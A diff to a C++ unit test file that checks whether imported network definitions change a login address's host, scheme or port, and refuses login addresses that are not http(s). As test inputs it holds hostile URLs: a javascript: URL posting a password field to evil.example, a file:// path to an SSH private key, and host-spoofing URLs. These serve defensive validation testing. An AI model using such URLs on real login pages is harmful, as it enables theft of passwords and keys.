@@ -210,13 +210,18 @@ TEST(ImportNetworks, ALoginAddressMovedToAnotherHostIsKeptWhileTheNetworkHasLogi
     };
     const std::vector<Case> cases = {
         { "https://p.example/login", "https://p.example/login2", false },
-        { "https://p.example/login", "HTTP://P.Example:8443/other?x=1", false },
+        { "https://p.example/login", "HTTPS://P.Example:443/other?x=1", false },
+        { "http://p.example/login", "https://p.example/login", false }, // up to https
+        { "http://p.example:8080/login", "https://p.example/login", false },
+        { "https://p.example/login", "http://p.example/login", true }, // the password would go in clear
+        { "https://p.example/login", "HTTP://P.Example:8443/other?x=1", true },
+        { "https://p.example/login", "https://p.example:8443/login", true }, // another server
+        { "http://p.example/login", "http://p.example:8080/login", true },
         { "https://user@p.example/login", "https://p.example/", false },
         { "", "https://p.example/login", false }, // no address before: nothing was sent anywhere
         { "https://p.example/login", "https://evil.example/login", true },
         { "https://p.example/login", "https://p.example@evil.example/login", true },
         { "https://p.example/login", "https://p.example.evil.example/login", true },
-        { "https://p.example/login", "//evil.example/login", true },
         { "https://p.example/login", "https://evil.example\\@p.example/", true },
         { "https://p.example/login", "https://[::1]:80/login", true },
         { "https://p.example/login", "", true },
@@ -257,6 +262,42 @@ TEST(ImportNetworks, ALoginAddressMovedToAnotherHostIsKeptWhileTheNetworkHasLogi
         AcceptLoginHostChanges(networks, kept);
         EXPECT_EQ(p->LoginURL, c.newURL);
     }
+}
+
+// A login address that is not an http(s) address with a host would run in the
+// login page or post the password to a local file, for a new network as much
+// as for one with stored logins: the whole text is refused before anything
+// changes.
+TEST(ImportNetworks, ALoginAddressThatIsNotHttpRefusesTheWholeText)
+{
+    for (const std::string url :
+        { "javascript:location='https://evil.example/?'+document.forms[0].pw.value", "  jAvAsCrIpT:alert(1)",
+            "file:///home/user/.ssh/id_rsa", "//evil.example/login", "data:text/html,x", "https://" }) {
+        SCOPED_TRACE(url);
+        NetworkList networks;
+        networks.push_back(System("P", "P"));
+        networks[0]->LoginURL = "https://p.example/login";
+        int version = 7;
+        TIniList scratch;
+        const Status imported = ImportNetworks(scratch,
+            Definitions(2,
+                { { { "Name", "P2" }, { "System", "P" }, { "LoginURL", "https://p.example/new" } },
+                    { { "Name", "New" }, { "System", "N" }, { "LoginURL", url } } }),
+            networks, version);
+        EXPECT_FALSE(imported.ok);
+        EXPECT_NE(imported.error.find(url), std::string::npos);
+        EXPECT_NE(codec::DecodeSjis(imported.error).find("http: または https:"), std::string::npos);
+        EXPECT_EQ(Summary(networks), (std::vector<std::string> { "P|P" }));
+        EXPECT_EQ(networks[0]->LoginURL, "https://p.example/login");
+        EXPECT_EQ(version, 7);
+    }
+    // No address at all is a network without a login page, and is taken.
+    NetworkList networks;
+    TIniList scratch;
+    int version = 1;
+    EXPECT_TRUE(
+        ImportNetworks(scratch, Definitions(1, { { { "Name", "N" }, { "System", "N" } } }), networks, version).ok);
+    EXPECT_EQ(networks.size(), 1u);
 }
 
 TEST(ImportNetworks, WithoutAListTheOldAddressIsStillKept)
